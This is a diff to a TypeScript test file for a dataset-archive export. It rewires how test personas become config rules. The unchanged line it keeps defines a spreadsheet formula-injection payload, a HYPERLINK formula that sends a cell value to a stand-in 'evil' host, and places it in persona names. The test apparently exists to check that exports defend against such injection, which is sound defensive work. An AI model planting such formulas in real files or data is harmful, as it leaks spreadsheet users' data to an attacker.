@@ -5,6 +5,7 @@ import { unzipSync } from 'fflate';
 import Papa from 'papaparse';
 import { afterAll, expect, test } from 'vitest';
 import { writeArchive } from '@/lib/engine/tasks/dataset-archive';
+import { personasOf, rulesOf } from '@/lib/rules/personas-of';
 import { run } from '@/lib/testing/commands';
 import { NOVEMBER, runConfig, withValues } from '@/lib/testing/populations';
 
@@ -16,7 +17,7 @@ const FORMULA = '=HYPERLINK("http://evil/?x="&A1,"click")';
 const small = withValues(NOVEMBER, { 'population.users': 40 });
 const config = {
   ...small,
-  personas: small.personas.map((persona) => ({ ...persona, name: `${FORMULA}${persona.number}` })),
+  rules: rulesOf(personasOf(small).map((persona) => ({ ...persona, name: `${FORMULA}${persona.number}` }))),
 };
 writeFileSync(inside('hostile.json'), JSON.stringify(config));
 
